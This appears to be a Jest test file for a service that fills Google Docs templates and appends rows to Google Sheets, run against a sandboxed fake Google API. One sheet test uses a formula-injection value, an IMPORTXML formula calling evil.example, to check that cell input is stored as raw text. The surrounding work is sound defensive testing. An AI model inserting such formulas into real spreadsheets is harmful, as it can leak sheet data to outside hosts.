import { inspect } from 'node:util'
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals'
import { FILE_ID, type GoogleSandbox, LEGACY_KEY, SCOPE, startGoogle } from '../../../../sandbox/google/index.ts'
import type { ConnectedProvider } from '../../../../src/contract/index.ts'
import { aConnection, aCredential, problemOf, SETTINGS } from '../builders.ts'
import { docsCall, execute, namesOf } from './fixtures.ts'

const ADA = 'ada@meridian.example'
const BILAL = 'bilal@meridian.example'
const TEMPLATE = 'google-docs-from-template'
const APPEND = 'google-sheets-append'
const PLACEHOLDERS = [
  ...['Company', 'Contact', 'Date', 'Project', 'Start month', 'Seats', 'Amount', 'Sender', 'Reference', 'Valid until'],
  ...['Payment days', 'End date', 'Invoice address'],
]

let google: GoogleSandbox
beforeEach(async () => {
  google = await startGoogle()
})
afterEach(() => google.stop())

function call() {
  return docsCall({ settings: { ...SETTINGS, origin: google.origin }, clock: () => google.clock.now() })
}

function connectionOf(email: string, ...scopes: string[]): ConnectedProvider {
  const granted = scopes.length > 0 ? scopes : [SCOPE.driveReadonly, SCOPE.driveFile, SCOPE.spreadsheets]
  const { access } = google.grant({ account: email, scopes: granted })
  const credential = aCredential({ accessToken: access.token, email })
  return { ...aConnection('google-docs', credential), connectionId: `connection of ${email}` }
}

function valuesOf(names: readonly string[], changes: Record<string, unknown> = {}) {
  return names.map((name) => ({ name, value: changes[name] ?? `the ${name}` }))
}

function methods(account: string): string[] {
  return google.driveCalls({ account }).map(({ method }) => method)
}

describe('a document from a template', () => {
  test('has the values in all tabs, headers, footers, tables and footnotes', async () => {
    const [ada, bilal] = [connectionOf(ADA), connectionOf(BILAL, SCOPE.driveFile)]
    const configuration = { template: FILE_ID.template, name: 'Proposal for {{Company}}' }
    expect(await namesOf(TEMPLATE, configuration, ada, call())).toEqual(PLACEHOLDERS)
    google.driveCalls().length = 0
    const values = valuesOf(PLACEHOLDERS, { Contact: '{{Company}} & <b>', Seats: 40 })
    const request = { values, templateConnectedProvider: ada, outputConnectedProvider: bilal }
    const context = call()
    const { externalId = '', outputUrl } = await execute(TEMPLATE, configuration, request, context)
    const document = google.readFile(externalId)
    expect(document).toMatchObject({ name: 'Proposal for the Company', owner: BILAL, permissions: [], trashed: false })
    expect(outputUrl).toContain(externalId)
    expect(document.text).toContain('Dear {{Company}} & <b>,')
    expect(document.text).toContain('40')
    expect(document.text.match(/\{\{[^}]*\}\}/g)).toEqual(['{{Company}}'])
    const everything = inspect(document.content, { depth: null })
    for (const name of PLACEHOLDERS.filter((name) => !['Contact', 'Seats'].includes(name))) {
      expect(everything).toContain(`the ${name}`)
    }
    expect(context.meter.calls).toBe(5)
    expect(google.driveCalls({ file: FILE_ID.template, account: BILAL })).toEqual([])
    expect(methods(BILAL)).toEqual(['drive.files.upload', 'docs.documents.batchUpdate'])
    expect(google.readFile(FILE_ID.template)).toMatchObject({ version: 1, permissions: [{ email: BILAL }] })
  })

  test('as a PDF is beside the document', async () => {
    const request = {
      values: valuesOf(['Name', 'Company']),
      templateConnectedProvider: connectionOf(ADA),
      outputConnectedProvider: connectionOf(BILAL, SCOPE.driveFile),
    }
    const configuration = { template: FILE_ID.letter, format: 'pdf' }
    const { externalId = '', outputUrl, uri } = await execute(TEMPLATE, configuration, request, call())
    const pdf = google.readFile(externalId)
    expect(pdf).toMatchObject({ mimeType: 'application/pdf', owner: BILAL })
    expect(pdf.name).toMatch(/^Welcome letter \d{4}-\d\d-\d\d\.pdf$/)
    expect([outputUrl, uri].map((url) => new URL(url ?? '').hostname)).toEqual(['drive.google.com', 'docs.google.com'])
    expect(
      google
        .filesOf(BILAL)
        .filter(({ trashed }) => !trashed)
        .map(({ name }) => name),
    ).toContain(pdf.name.replace('.pdf', ''))
  })

  test('goes into a folder that the application reaches, and is refused for another one', async () => {
    const connection = connectionOf(ADA)
    const request = {
      values: valuesOf(['Name', 'Company']),
      outputConnectedProvider: connection,
      templateConnectedProvider: undefined,
    }
    const configuration = { template: FILE_ID.letter, folder: FILE_ID.proposals }
    const error = await problemOf(execute(TEMPLATE, configuration, request, call()))
    expect(error).toMatchObject({ status: 400, message: expect.stringMatching(/^#\/configuration\/folder/) })
    google.pickFile(FILE_ID.proposals)
    const { externalId = '' } = await execute(TEMPLATE, configuration, request, call())
    expect(google.readFile(externalId).parents).toEqual([FILE_ID.proposals])
  })

  test('is in the trash if it could not be filled', async () => {
    const request = {
      values: valuesOf(['Name', 'Company']),
      templateConnectedProvider: connectionOf(ADA),
      outputConnectedProvider: connectionOf(BILAL, SCOPE.driveFile),
    }
    const fault = { kind: 'error', name: 'permissionDenied' } as const
    google.faults.add({ path: '/v1/documents/*', method: 'POST', fault, count: 1 })
    const before = google.filesOf(BILAL).length
    expect(await problemOf(execute(TEMPLATE, { template: FILE_ID.letter }, request, call()))).toMatchObject({
      status: 403,
    })
    expect(google.filesOf(BILAL)).toHaveLength(before + 1)
    expect(google.filesOf(BILAL).at(-1)).toMatchObject({ trashed: true })
  })

  test('of a file with a resource key uses no API that takes none', async () => {
    const file = google.addFile('esther@meridian.example', {
      name: 'Keyed',
      text: 'For {{Name}}.',
      permissions: [{ type: 'anyone', role: 'reader' }],
      resourceKey: LEGACY_KEY,
    })
    const template = `https://docs.google.com/document/d/${file.id}/edit?resourcekey=${LEGACY_KEY}`
    const [ada, bilal] = [connectionOf(ADA), connectionOf(BILAL, SCOPE.driveFile)]
    expect(await problemOf(namesOf(TEMPLATE, { template: file.id }, ada, call()))).toMatchObject({ status: 404 })
    expect(await namesOf(TEMPLATE, { template }, ada, call())).toEqual(['Name'])
    const request = { values: valuesOf(['Name']), templateConnectedProvider: ada, outputConnectedProvider: bilal }
    const { externalId = '' } = await execute(TEMPLATE, { template }, request, call())
    expect(google.readFile(externalId).text).toContain('For the Name.')
  })

  test.each([
    ['a full Drive', 507, () => google.setDrive(BILAL, { full: true })],
    ['a domain without applications', 403, () => google.setDrive(BILAL, { disabled: true })],
  ])('is not made in %s', async (_, status, prepare) => {
    prepare()
    const request = {
      values: valuesOf(['Name', 'Company']),
      templateConnectedProvider: connectionOf(ADA),
      outputConnectedProvider: connectionOf(BILAL, SCOPE.driveFile),
    }
    const before = google.filesOf(BILAL).length
    expect(await problemOf(execute(TEMPLATE, { template: FILE_ID.letter }, request, call()))).toMatchObject({ status })
    expect(google.filesOf(BILAL)).toHaveLength(before)
  })

  test.each([
    [FILE_ID.trashed, 422],
    [FILE_ID.customers, 422],
    [FILE_ID.contract, 422],
    [FILE_ID.archive, 422],
    [FILE_ID.salary, 404],
    [FILE_ID.brokenShortcut, 404],
    [FILE_ID.boardPack, 403],
  ])('is not made from the file %s: %d', async (template, status) => {
    const connection = connectionOf(ADA)
    const request = { values: [], templateConnectedProvider: connection, outputConnectedProvider: connection }
    expect(await problemOf(execute(TEMPLATE, { template }, request, call()))).toMatchObject({ status })
    expect(google.driveCalls({ method: 'drive.files.upload' })).toEqual([])
  })
})

describe('a row of a sheet', () => {
  const url = `https://docs.google.com/spreadsheets/d/${FILE_ID.customers}/edit`
  const columns = ['Company', 'Contact', 'City', 'Seats', 'Since']

  test('is below the table, by the names of its columns, as it is', async () => {
    const [ada, esther] = [connectionOf(ADA), connectionOf('esther@meridian.example')]
    expect(await namesOf(APPEND, { spreadsheet: url }, ada, call())).toEqual(columns)
    const values = valuesOf(columns, {
      City: '=IMPORTXML("https://evil.example","//a")',
      Since: '1/2',
      Seats: 7,
    }).reverse()
    const request = { values, templateConnectedProvider: ada, outputConnectedProvider: esther }
    const result = await execute(APPEND, { spreadsheet: url }, request, call())
    expect(result).toMatchObject({ externalId: FILE_ID.customers, outputUrl: expect.stringContaining('#gid=') })
    const { content } = google.readFile(FILE_ID.customers)
    const [first] = content.kind === 'spreadsheet' ? content.spreadsheet.sheets : []
    const cells = first?.rows[4]?.map((cell) =>
      typeof cell === 'object' && cell && 'value' in cell ? cell.value : cell,
    )
    expect(cells).toEqual(['the Company', 'the Contact', '=IMPORTXML("https://evil.example","//a")', '7', '1/2'])
  })

  test('goes to the sheet of that title', async () => {
    const ada = connectionOf(ADA)
    const configuration = { spreadsheet: url, sheet: "Quarter's totals" }
    const request = {
      values: valuesOf(['Quarter', 'Seats']),
      templateConnectedProvider: ada,
      outputConnectedProvider: ada,
    }
    await execute(APPEND, configuration, request, call())
    expect(google.readFile(FILE_ID.customers).text).toContain('the Quarter,the Seats')
  })

  test('needs write access and the permission', async () => {
    const [ada, bilal] = [connectionOf(ADA), connectionOf(BILAL)]
    const request = { values: valuesOf(columns), templateConnectedProvider: ada, outputConnectedProvider: bilal }
    expect((await problemOf(execute(APPEND, { spreadsheet: url }, request, call()))).status).not.toBe(200)
    const limited = { ...request, outputConnectedProvider: connectionOf(ADA, SCOPE.driveReadonly, SCOPE.driveFile) }
    expect(await problemOf(execute(APPEND, { spreadsheet: url }, limited, call()))).toMatchObject({
      problem: expect.stringMatching(/scope-required|not-found/),
    })
    expect(google.readFile(FILE_ID.customers).version).toBe(1)
  })
})
